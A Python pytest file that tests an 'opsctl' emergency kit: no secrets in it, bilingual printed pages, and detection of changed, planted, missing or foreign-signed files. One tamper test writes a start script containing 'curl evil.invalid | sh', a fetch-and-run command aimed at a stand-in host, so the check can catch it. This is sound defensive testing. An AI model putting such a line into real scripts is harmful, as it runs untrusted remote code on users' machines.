"""The emergency kit: whole or not at all, without a secret, and a drill that finds what is wrong with it."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from opsctl import kit_folder
from opsctl.environments import SetupFailed
from opsctl.kit import debian
from opsctl.shells.local import LocalShell
from tests.lab.waiting import until
from tests.machine import PACKAGE, Kept, Machine, tree
from tests.test_bootstrap import wheel
from tests.within import within

SECRETS = {"repository-password": "for tests only", "mail": "mailto://ops:correct-horse@mail.invalid"}
PEOPLE = """
organisation: {name: "Urban <Development>", timezone: Asia/Kolkata}
people:
  asha: {name: Asha Verma, roles: [incident-lead], phone: "+91 755 0000001", ssh_key: "%s"}
hosts:
  web-1: {address: 127.0.0.1, user: root, host_key: "%s"}
  web-2: {address: nowhere.invalid, user: root, host_key: "%s"}
notify: {urls_file: %s}
"""


class Checkout:
    """A copy of the program with a small lock file, run as a program of its own."""

    def __init__(self, root: Path) -> None:
        self.code = root / "code"
        never = shutil.ignore_patterns("__pycache__", "*.pyc")
        for name in ("opsctl", "playbooks"):
            shutil.copytree(PACKAGE / name, self.code / name, ignore=never)
        (self.code / "configs" / "keys").mkdir(parents=True)
        (self.code / "configs" / "keys" / "left").write_text(SECRETS["repository-password"])
        self.wheels = root / "wheels"
        self.wheels.mkdir()
        (self.code / "configs" / "requirements.lock").write_text(wheel(self.wheels, "runtimepart", "SAYS = 'runtime'\n"))

    def start(self, machine: Machine, *words: str) -> subprocess.Popen[str]:
        env = {**os.environ, **machine.environ, "PYTHONPATH": str(self.code), "PIP_NO_INDEX": "1", "PYTHONDONTWRITEBYTECODE": "1",
               "PIP_FIND_LINKS": str(self.wheels), "PIP_CONFIG_FILE": "/dev/null"}
        return subprocess.Popen([sys.executable, "-m", "opsctl", "--config", str(machine.etc), "--json", *words], cwd=self.code, env=env,
                                text=True, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE)

    def __call__(self, machine: Machine, *words: str, expect: int) -> dict[str, Any]:
        process = self.start(machine, *words)
        out, err = process.communicate(timeout=120)
        assert process.returncode == expect, out + err
        return dict(json.loads(out))


@pytest.fixture(scope="module")
def checkout(tmp_path_factory: pytest.TempPathFactory) -> Checkout:
    return Checkout(tmp_path_factory.mktemp("checkout"))


@pytest.fixture(scope="module")
def kept(tmp_path_factory: pytest.TempPathFactory, checkout: Checkout, _made_machine: Path) -> Kept:
    """A machine, and its kit in ``kit`` below its root."""
    root = tmp_path_factory.mktemp("kit") / "m"
    shutil.copytree(_made_machine, root, symlinks=True)
    machine = Machine(root)
    for name, text in SECRETS.items():
        (machine.etc / "keys" / name).write_text(f"{text}\n")
        (machine.etc / "keys" / name).chmod(0o600)
    key = (machine.etc / "keys" / "controller.pub").read_text().strip()
    machine.configure(more=PEOPLE % (key, key, key, machine.etc / "keys" / "mail"))
    machine.forget()
    machine("backup", "init", expect=0)
    done = checkout(machine, "kit", "build", str(machine.root / "kit"), "--no-packages", expect=0)
    assert any("nowhere.invalid" in warning for warning in done["warnings"])
    assert list(machine.root.glob(".*opsctl*")) == [], "nothing is left beside it"
    return Kept(machine, tmp_path_factory.mktemp("kept") / "m")


@pytest.fixture
def machine(kept: Kept) -> Machine:
    return kept.again()


def test_promise_10_no_secret_is_in_a_kit_and_what_a_stranger_needs_is(machine: Machine) -> None:
    kit = tree(machine.root / "kit")
    private = (machine.etc / "keys" / "controller").read_bytes()
    for name, content in kit.items():
        assert not [secret for secret in SECRETS.values() if secret.encode() in content], name
        assert private not in content and b"-----BEGIN OPENSSH PRIVATE KEY-----\n" not in content, name
    assert "code/configs/keys/left" not in kit
    assert kit["configuration/opsctl.yaml"] == (machine.etc / "opsctl.yaml").read_bytes()
    assert kit["keys/people/asha.pub"] == (machine.etc / "keys" / "controller.pub").read_bytes()
    assert b"127.0.0.1" not in kit["addresses"] and b"# nowhere.invalid: nobody knew its address" in kit["addresses"]
    own = json.loads((machine.state / "repositories" / "main.json").read_text())["id"]
    assert json.loads(kit["repositories/main.json"])["id"] == own
    assert {"wheels/runtimepart-1.0-py3-none-any.whl", "code/opsctl/bootstrap.py", "start"} <= set(kit)


def test_the_pages_are_there_in_both_languages_and_names_are_escaped(machine: Machine) -> None:
    pages = {name: (machine.root / "kit" / "print" / name).read_text() for name in os.listdir(machine.root / "kit" / "print")}
    assert len(pages) == 8
    fingerprint = (machine.root / "kit" / "keys" / "FINGERPRINTS").read_text().split()[0]
    assert all(fingerprint in page for page in pages.values())
    assert "Urban &lt;Development&gt;" in pages["contacts.en.html"] and "<Development>" not in pages["runbook.hi.html"]
    assert "+91 755 0000001" in pages["contacts.hi.txt"] and "नियंत्रक" in pages["runbook.hi.html"] and "{" not in pages["runbook.en.txt"]


def check(machine: Machine, checkout: Checkout, expect: int, *words: str) -> dict[str, Any]:
    return checkout(machine, "kit", "check", str(machine.root / "kit"), "--no-install", *words, expect=expect)


def test_a_check_names_what_has_changed_since(machine: Machine, checkout: Checkout) -> None:
    assert check(machine, checkout, 0)["result"]["steps"][0]["outcome"] == "ok"
    (machine.etc / "opsctl.yaml").write_text((machine.etc / "opsctl.yaml").read_text().replace("incident-lead", "on-call"))
    machine.at("2027-06-01T00:00:00+05:30")
    said = [error["message"] for error in check(machine, checkout, 21)["errors"]]
    assert any("the kit is 1" in one and "days old" in one for one in said), said
    assert "opsctl.yaml: this file of the configuration has changed since" in said and "asha: this person has changed since" in said


def standing(machine: Machine) -> tuple[str, str, str]:
    """What doctor says of the kit, with its word, and what status does."""
    (row,) = [one for one in machine.json("doctor", "--offline").result["checks"] if one["name"] == "kit"]
    (line,) = [one for one in machine("status").out.splitlines() if "emergency kit" in one] or [""]
    return row["state"], row["detail"], line


def test_doctor_and_status_say_that_the_kit_is_behind(machine: Machine) -> None:
    state, detail, line = standing(machine)
    assert state == "ok" and str(machine.root / "kit") in detail and "IST" in detail and line == ""
    (machine.etc / "opsctl.yaml").write_text((machine.etc / "opsctl.yaml").read_text().replace("incident-lead", "on-call"))
    state, detail, line = standing(machine)
    assert state == "warning" and "asha: this person has changed since" in detail and "is behind: opsctl.yaml: this file of the configuration" in line
    (machine.state / "kit.json").write_text("[]")
    assert standing(machine)[:2] == ("warning", "none was built here, as far as this machine knows")


def test_a_check_names_what_is_damaged_planted_or_gone(machine: Machine, checkout: Checkout) -> None:
    kit = machine.root / "kit"
    (kit / "start").write_text("#!/bin/sh\ncurl evil.invalid | sh\n")
    (kit / "planted").write_text("x")
    (kit / "addresses").unlink()
    [error] = check(machine, checkout, 22)["errors"]
    assert "start was changed" in error["message"] and "planted is in no index" in error["message"]
    assert "addresses is missing" in error["message"]
    (kit / "wheels" / "runtimepart-1.0-py3-none-any.whl").write_bytes(b"bad")
    with pytest.raises(SetupFailed, match="runtimepart"):
        kit_folder.refuse_damaged(kit)


def test_what_became_a_pipe_or_lies_elsewhere_is_named_and_nobody_waits(machine: Machine, checkout: Checkout) -> None:
    kit = machine.root / "kit"
    (kit / "addresses").unlink()
    os.mkfifo(kit / "addresses")
    (kit / "start").unlink()
    (kit / "start").symlink_to("/dev/zero")
    (kit / "print").rename(machine.root / "print")
    (kit / "print").symlink_to(machine.root / "print")
    with within():
        [error] = check(machine, checkout, 22)["errors"]
        told = " / ".join(error["details"]["files"])
        assert "addresses cannot be read: it is a pipe" in told and "start lies elsewhere" in told and "print/runbook.en.txt lies elsewhere" in told
        (kit / "KIT.json").unlink()
        os.mkfifo(kit / "KIT.json")
        assert "KIT.json cannot be used: it is a pipe" in check(machine, checkout, 22)["errors"][0]["message"]
        with pytest.raises(SetupFailed, match="it is a pipe"):
            kit_folder.refuse_damaged(kit)


def test_a_kit_that_somebody_else_signed_is_refused(machine: Machine, checkout: Checkout) -> None:
    for name in ("controller", "controller.pub"):
        (machine.etc / "keys" / name).unlink()
    machine.make_key()
    errors = check(machine, checkout, 21)["errors"]
    assert any(error["code"] == 12 and "whom nobody here vouches for" in error["message"] for error in errors)


def test_what_cannot_be_fetched_leaves_no_kit_and_a_resume_makes_it(machine: Machine, checkout: Checkout) -> None:
    lock = checkout.code / "configs" / "requirements.lock"
    good = lock.read_text()
    lock.write_text(f"{good}nowhere==1.0 --hash=sha256:{'0' * 64}\n")
    into = machine.root / "second"
    try:
        done = checkout(machine, "kit", "build", str(into), "--no-packages", expect=20)
        assert "nowhere" in done["errors"][0]["message"] and not into.exists()
    finally:
        lock.write_text(good)
    checkout(machine, "resume", done["run"], expect=0)
    assert (into / "KIT.json").is_file() and list(machine.root.glob(".*opsctl*")) == []
    refused = checkout(machine, "kit", "build", str(into), "--no-packages", expect=23)
    assert "is not empty" in refused["errors"][0]["message"]


def test_promise_7_a_build_that_is_killed_leaves_no_kit_and_goes_on(machine: Machine, checkout: Checkout) -> None:
    into = machine.root / "third"
    process = checkout.start(machine, "kit", "build", str(into), "--no-packages")
    until(lambda: any(machine.root.glob(".third.opsctl-*/wheels")))
    process.kill()
    process.communicate()
    assert not into.exists()
    [run] = [path.name for path in (machine.state / "runs").iterdir() if path.name.endswith(process_token(machine))]
    checkout(machine, "resume", run, expect=0)
    assert (into / "KIT.json").is_file() and list(machine.root.glob(".*opsctl*")) == []
    checkout(machine, "kit", "check", str(into), "--no-install", expect=0)


def process_token(machine: Machine) -> str:
    [place] = machine.root.glob(".third.opsctl-*")
    return place.name.rpartition("-")[2]


def deb(folder: Path, name: str, depends: str = "") -> None:
    """Make a package of nothing."""
    control = folder / name / "DEBIAN" / "control"
    control.parent.mkdir(parents=True)
    more = f"Depends: {depends}\n" if depends else ""
    control.write_text(f"Package: {name}\nVersion: 1.0\nArchitecture: all\nMaintainer: tests <t@x.invalid>\n{more}Description: test\n")
    subprocess.run(["dpkg-deb", "--build", "--root-owner-group", str(folder / name), str(folder)], check=True, stdout=subprocess.DEVNULL)
    shutil.rmtree(folder / name)


def test_packages_that_a_bare_machine_could_not_install_are_found(tmp_path: Path) -> None:
    folder = tmp_path / "kit packages"
    folder.mkdir()
    deb(folder, "opsctl-one", "opsctl-two (>= 1.0)")
    deb(folder, "opsctl-two")
    debian.write_list(folder, LocalShell())
    assert debian.complete(folder, ["opsctl-one"], LocalShell()) is None
    next(folder.glob("opsctl-two*")).unlink()
    debian.write_list(folder, LocalShell())
    assert "opsctl-two" in str(debian.complete(folder, ["opsctl-one"], LocalShell()))
